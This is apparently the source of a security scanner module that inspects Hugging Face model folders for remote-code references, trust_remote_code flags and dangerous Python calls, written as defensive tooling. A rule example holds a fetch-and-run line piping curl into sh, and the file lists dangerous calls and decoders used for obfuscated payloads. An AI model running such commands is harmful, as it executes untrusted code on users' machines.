"""Hugging Face model folders: ``auto_map`` remote code in configs and dangerous calls in the Python files.

``transformers`` imports the module an ``auto_map`` entry names when a user passes ``trust_remote_code=True``;
that module is ordinary Python that runs on load. Configs are read as JSON; Python files are parsed with
:mod:`ast` and never imported or executed.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath

from bastion.errors import LimitExceeded
from bastion.findings import Location, Severity
from bastion.rules import SUPPLY_CHAIN_REFS, Reference, Rule, register
from bastion.scan.context import ScanContext, Source
from bastion.scan.formats import Format
from bastion.scan.jinja_check import check_template
from bastion.scan.keras_config import NotJson, is_keras_config, load_json_document
from bastion.scan.registry import scanner

_HF_DOCS = Reference(
    "Hugging Face: custom models and trust_remote_code",
    "https://huggingface.co/docs/transformers/custom_models",
)

register(
    Rule(
        code="BST-HF-001",
        name="hf-auto-map-remote-code",
        severity=Severity.HIGH,
        summary="A Hugging Face config maps model classes to Python code shipped with the model.",
        what_it_does=(
            "Reports every `auto_map` entry and the code file it points at (in this repo or in another one)."
        ),
        why_bad=(
            "With `trust_remote_code=True`, transformers imports the named file and runs it with the "
            "user's permissions; the code can do anything. Many tutorials pass the flag by habit."
        ),
        example='`"auto_map": {"AutoModel": "modeling_evil.EvilModel"}`',
        use_instead=(
            "Use an architecture built into transformers, or review and pin the remote code (a commit hash)."
        ),
        false_positives="Models that legitimately need custom code; review it before trusting it.",
        references=(*SUPPLY_CHAIN_REFS, _HF_DOCS),
    )
)
register(
    Rule(
        code="BST-HF-002",
        name="hf-trust-remote-code-in-config",
        severity=Severity.HIGH,
        summary="A config file sets `trust_remote_code` to true.",
        what_it_does="Reports any `trust_remote_code: true` inside a Hugging Face configuration document.",
        why_bad=(
            "Configs that pre-approve remote code make loaders (or pipelines built on them) run it "
            "without asking."
        ),
        example='`{"trust_remote_code": true}` in `tokenizer_config.json`.',
        use_instead="Leave the decision to the person loading the model; remove the key.",
        references=(*SUPPLY_CHAIN_REFS, _HF_DOCS),
    )
)
register(
    Rule(
        code="BST-HF-003",
        name="hf-auto-map-file-missing",
        severity=Severity.MEDIUM,
        summary="A code file named by `auto_map` is missing from the model folder.",
        what_it_does=(
            "Checks, for configs on disk, that each `auto_map` module exists as a `.py` file beside the "
            "config."
        ),
        why_bad=(
            "The code would be fetched at load time from the hub, after the scan, and could differ from "
            "anything that was reviewed."
        ),
        example='`"auto_map": {"AutoModel": "modeling_x.X"}` with no `modeling_x.py` in the folder.',
        use_instead="Scan the complete folder, including its code files, at a pinned revision.",
        false_positives="Scanning a config file on its own.",
        references=(*SUPPLY_CHAIN_REFS, _HF_DOCS),
    )
)
register(
    Rule(
        code="BST-HF-004",
        name="python-dangerous-call",
        severity=Severity.HIGH,
        summary=(
            "Python code shipped with a model runs commands, evaluates code, loads native code or uses "
            "the network."
        ),
        what_it_does=(
            "Parses `.py` files with `ast` and reports calls and imports such as `os.system`, "
            "`subprocess`, `eval`, `exec`, `__import__`, `ctypes`, `socket`, `urllib`/`requests`, "
            "`pickle.loads` and `marshal.loads`. High for remote code (`modeling_*`, `configuration_*`, "
            "`tokenization_*`, files an `auto_map` names), medium for other files, and high anywhere when "
            "`eval`/`exec` runs data decoded with base64, zlib or similar (an obfuscated payload)."
        ),
        why_bad="Remote code runs when the model loads; these calls are how a backdoor reaches the host.",
        example="`os.system('curl http://x | sh')` at the top of `modeling_evil.py`.",
        use_instead="Remove the call, or review the code and pin the revision that was reviewed.",
        false_positives="Helper scripts that legitimately download data or call tools.",
        references=(*SUPPLY_CHAIN_REFS, _HF_DOCS),
    )
)
register(
    Rule(
        code="BST-HF-005",
        name="python-unparseable",
        severity=Severity.LOW,
        summary="A Python file shipped with a model could not be parsed.",
        what_it_does=(
            "Reports `.py` files that are not valid Python (or too large or deeply nested to parse)."
        ),
        why_bad="Such a file cannot be checked; it also fails to import, so it is usually a broken upload.",
        example="A `modeling_x.py` truncated in the middle of a function.",
        use_instead="Fix or remove the file.",
        false_positives="Python 2 files or templates with a `.py` extension.",
    )
)
register(
    Rule(
        code="BST-HF-006",
        name="hf-remote-code-present",
        severity=Severity.INFO,
        summary="The model folder ships Python code that transformers can import as remote code.",
        what_it_does=(
            "Notes `modeling_*`, `configuration_*`, `tokenization_*` and `*processing_*` files with no "
            "dangerous calls."
        ),
        why_bad="Nothing dangerous was found, but the code still runs on load and deserves a review.",
        example="`modeling_custom.py` importing only torch and transformers.",
        use_instead="Nothing to change; review and pin the code.",
        false_positives="Most findings: it is an inventory.",
    )
)


def _words(text: str) -> tuple[str, ...]:
    """The whitespace-separated words of a word list written as a block of text."""
    return tuple(text.split())


_HF_KEYS = frozenset(
    _words(
        """
        custom_pipelines trust_remote_code model_type architectures auto_map tokenizer_class processor_class
        feature_extractor_type image_processor_type transformers_version
        """
    )
)
_HF_MARKERS = (*(f'"{k}"'.encode() for k in sorted(_HF_KEYS)), b'"chat_template"')
_MAX_TEMPLATES = 64
_REMOTE_CODE_NAME = re.compile(
    r"^(modeling|configuration|tokenization|processing|image_processing|feature_extraction)_"
)
_CONFIG_NAMES = ("config.json", "tokenizer_config.json", "preprocessor_config.json", "processor_config.json")
_MAX_PY_BYTES = 4 << 20
_MAX_PY_REPORTS = 50
_MAX_WALK = 1_000_000

# Call targets that run commands, evaluate code, load native code or reach the network: exact dotted
# names, then prefixes (a module and everything in it, or a family such as os.exec*).
_DANGEROUS_EXACT = frozenset(
    _words(
        """
        os.system os.popen os.fork os.forkpty eval exec compile __import__ builtins.eval builtins.exec
        builtins.compile builtins.__import__ importlib.import_module urllib.urlopen pickle.load
        pickle.loads marshal.load marshal.loads shutil.rmtree
        """
    )
)
_DANGEROUS_PREFIXES = _words(
    """
        os.exec os.spawn os.posix_spawn posix. nt. pty. subprocess. commands. socket. urllib.request.
        urllib2. requests. httpx. http.client. ctypes. dill. webbrowser.
        """
)
_DECODERS = ("base64.", "binascii.", "codecs.decode", "zlib.decompress", "bz2.", "lzma.", "bytes.fromhex")
_DANGEROUS_IMPORTS = _words("subprocess socket ctypes pty marshal requests urllib.request http.client httpx")


def _is_hf_config(obj: object) -> bool:
    return isinstance(obj, dict) and not is_keras_config(obj) and bool(_HF_KEYS & obj.keys())


def _auto_map_entries(auto_map: object) -> Iterator[tuple[str, str]]:
    """(auto class, reference) pairs; tokenizers map to [slow, fast] lists."""
    if not isinstance(auto_map, dict):
        return
    for auto_class, ref in auto_map.items():
        refs = ref if isinstance(ref, list) else [ref]
        for r in refs[:8]:
            if isinstance(r, str) and r:
                yield str(auto_class), r


def _remote_code_entries(config: dict[str, object]) -> Iterator[tuple[str, str]]:
    """auto_map entries plus custom pipelines, whose `impl` is remote code loaded the same way."""
    yield from _auto_map_entries(config.get("auto_map"))
    pipelines = config.get("custom_pipelines")
    if isinstance(pipelines, dict):
        for task, spec in list(pipelines.items())[:64]:
            impl = spec.get("impl") if isinstance(spec, dict) else None
            if isinstance(impl, str) and impl:
                yield f"pipeline {task}", impl


def _code_file(reference: str) -> tuple[str, str]:
    """(repo or '', module file name) for 'module.Class' or 'repo--module.Class'."""
    repo, _, local = reference.rpartition("--")
    module = local.rsplit(".", 1)[0] if "." in local else local
    return repo, module.replace(".", "/") + ".py"


def _trust_flags(obj: object) -> Iterator[str]:
    stack: list[tuple[object, str]] = [(obj, "$")]
    seen = 0
    while stack:
        node, path = stack.pop()
        seen += 1
        if seen > _MAX_WALK:
            raise LimitExceeded(f"configuration with more than {_MAX_WALK} values")
        if isinstance(node, dict):
            for k, v in node.items():
                if k == "trust_remote_code" and v is True:
                    yield f"{path}.{k}"
                elif isinstance(v, dict | list):
                    stack.append((v, f"{path}.{k}"[:200]))
        elif isinstance(node, list):
            stack.extend((v, f"{path}[{i}]"[:200]) for i, v in enumerate(node) if isinstance(v, dict | list))


def check_hf_config(obj: object, source: Source, location: Location, ctx: ScanContext) -> bool:
    """Report remote-code references in a parsed Hugging Face config; True if it was one."""
    if not _is_hf_config(obj):
        return False
    assert isinstance(obj, dict)
    base = source.fs_path.parent if source.fs_path is not None else None
    for auto_class, ref in _remote_code_entries(obj):
        repo, code = _code_file(ref)
        evidence = {
            "auto_class": auto_class,
            "reference": ref,
            "file": code,
            **({"repo": repo} if repo else {}),
        }
        where = f" from repository {repo!r}" if repo else ""
        ctx.report(
            "BST-HF-001",
            location,
            f"{auto_class} loads remote code {code}{where} when trust_remote_code is set; review that "
            "code before trusting it.",
            evidence,
        )
        if base is not None and not repo and not (base / code).is_file():
            ctx.report(
                "BST-HF-003",
                location,
                f"Remote code file {code} named by auto_map is not in the folder, so it would be fetched "
                "unscanned.",
                evidence,
            )
    for path in _trust_flags(obj):
        ctx.report(
            "BST-HF-002",
            location,
            "The config sets trust_remote_code to true; remove it and decide at load time.",
            {"path": path},
        )
    return True


@scanner(Format.JSON)
def scan_hf_json(source: Source, location: Location, ctx: ScanContext) -> None:
    """Examine a Hugging Face config.json / tokenizer_config.json for remote-code references."""
    try:
        obj = load_json_document(source, ctx.limits.max_json_bytes, _HF_MARKERS)
    except NotJson:
        return  # the Keras scanner reports unreadable configs; other JSON is data
    check_hf_config(obj, source, location, ctx)
    if isinstance(obj, dict):
        check_chat_templates(obj.get("chat_template"), location, ctx)


def check_chat_templates(value: object, location: Location, ctx: ScanContext) -> None:
    """Analyse tokenizer_config.json chat templates (a string, or a list of {name, template})."""
    # transformers renders these with Jinja2 on every apply_chat_template call, as llama.cpp does GGUF's.
    if isinstance(value, str):
        check_template(value, location, ctx, key="chat_template")
    elif isinstance(value, list):
        for entry in value[:_MAX_TEMPLATES]:
            if isinstance(entry, dict) and isinstance(entry.get("template"), str):
                name = str(entry.get("name", "?"))[:64]
                check_template(entry["template"], location, ctx, key=f"chat_template.{name}")


def _auto_mapped_files(folder: Path) -> set[str]:
    """Code files named by auto_map in the configs beside a Python file."""
    files: set[str] = set()
    for name in _CONFIG_NAMES:
        path = folder / name
        try:
            if not path.is_file() or path.stat().st_size > 1 << 20:
                continue
            with path.open("rb") as fh:
                obj = load_json_document(Source(fh, path.stat().st_size, name, path), 1 << 20)
        except (OSError, NotJson):
            continue
        if isinstance(obj, dict):
            files.update(_code_file(ref)[1] for _, ref in _remote_code_entries(obj) if "--" not in ref)
    return files


def _is_remote_code(source: Source) -> bool:
    name = PurePosixPath(source.name).name
    if _REMOTE_CODE_NAME.match(name):
        return True
    return source.fs_path is not None and name in _auto_mapped_files(source.fs_path.parent)


@dataclass(slots=True)
class _CallFinder:
    aliases: dict[str, str] = field(default_factory=dict)  # local name -> dotted origin
    hits: list[tuple[str, str, int, str]] = field(default_factory=list)  # (kind, name, line, decoder)

    def run(self, tree: ast.AST) -> None:
        nodes = list(ast.walk(tree))  # breadth-first and iterative
        for node in nodes:
            if isinstance(node, ast.Import):
                for a in node.names:
                    # `import os.path` binds `os`; `import os.path as p` binds `p` to `os.path`.
                    bound = a.asname or a.name.split(".", 1)[0]
                    self.aliases[bound] = a.name if a.asname else bound
                    self._import(a.name, node.lineno)
            elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
                for a in node.names:
                    self.aliases[a.asname or a.name] = f"{node.module}.{a.name}"
                self._import(node.module, node.lineno)
        for node in nodes:
            if isinstance(node, ast.Call):
                name = self._resolve(node.func)
                if name and _dangerous(name):
                    self.hits.append(("call", name, node.lineno, self._decoder(node, name)))
                elif name in ("getattr", "builtins.getattr") and node.args:
                    target = self._resolve(node.args[0])
                    if target and target.split(".", 1)[0] in {"os", "subprocess", "builtins", "posix"}:
                        self.hits.append(("call", f"getattr({target}, ...)", node.lineno, ""))

    def _import(self, module: str, line: int) -> None:
        if any(module == m or module.startswith(m + ".") for m in _DANGEROUS_IMPORTS):
            self.hits.append(("import", module, line, ""))

    def _decoder(self, call: ast.Call, name: str) -> str:
        """The decoding call inside eval/exec's argument, the mark of an obfuscated payload."""
        if name.rsplit(".", 1)[-1] not in ("eval", "exec", "compile"):
            return ""
        for arg in call.args[:1]:
            for inner in ast.walk(arg):
                if isinstance(inner, ast.Call):
                    decoder = self._resolve(inner.func)
                    if decoder.startswith(_DECODERS):
                        return decoder
        return ""

    def _resolve(self, node: ast.AST) -> str:
        parts: list[str] = []
        while isinstance(node, ast.Attribute):
            parts.append(node.attr)
            node = node.value
        if not isinstance(node, ast.Name):
            return ""
        head = self.aliases.get(node.id, node.id)
        return ".".join([head, *reversed(parts)])


def _dangerous(name: str) -> bool:
    return name in _DANGEROUS_EXACT or name.startswith(_DANGEROUS_PREFIXES)


@scanner(Format.PYTHON)
def scan_python(source: Source, location: Location, ctx: ScanContext) -> None:
    """Parse a Python file shipped with a model and report dangerous calls and imports."""
    remote = _is_remote_code(source)
    if source.size > _MAX_PY_BYTES:
        ctx.incomplete(location, f"Python file larger than {_MAX_PY_BYTES} bytes")
        return
    text = source.read_at(0, source.size).decode("utf-8", "replace")
    try:
        tree = ast.parse(text, filename=source.name)
    except (SyntaxError, ValueError, RecursionError, MemoryError) as exc:
        ctx.report(
            "BST-HF-005",
            location,
            "The Python file could not be parsed, so it was not checked; fix or remove it.",
            {"error": f"{type(exc).__name__}: {exc}"[:200]},
        )
        return
    finder = _CallFinder()
    finder.run(tree)
    severity = Severity.HIGH if remote else Severity.MEDIUM
    for kind, name, line, decoder in finder.hits[:_MAX_PY_REPORTS]:
        evidence: dict[str, object] = {kind: name, "line": line, "remote_code": str(remote).lower()}
        if decoder:
            evidence["decodes_with"] = decoder
        ctx.report(
            "BST-HF-004",
            location,
            f"The code {'calls' if kind == 'call' else 'imports'} {name}"
            f"{' on decoded data' if decoder else ''}, which can run commands, code or network access when "
            "the model loads; review it before trusting the model.",
            evidence,
            severity=Severity.HIGH if decoder else severity,
        )
    if remote and not finder.hits:
        ctx.report(
            "BST-HF-006", location, "The folder ships remote code; review it before trusting the model.", {}
        )
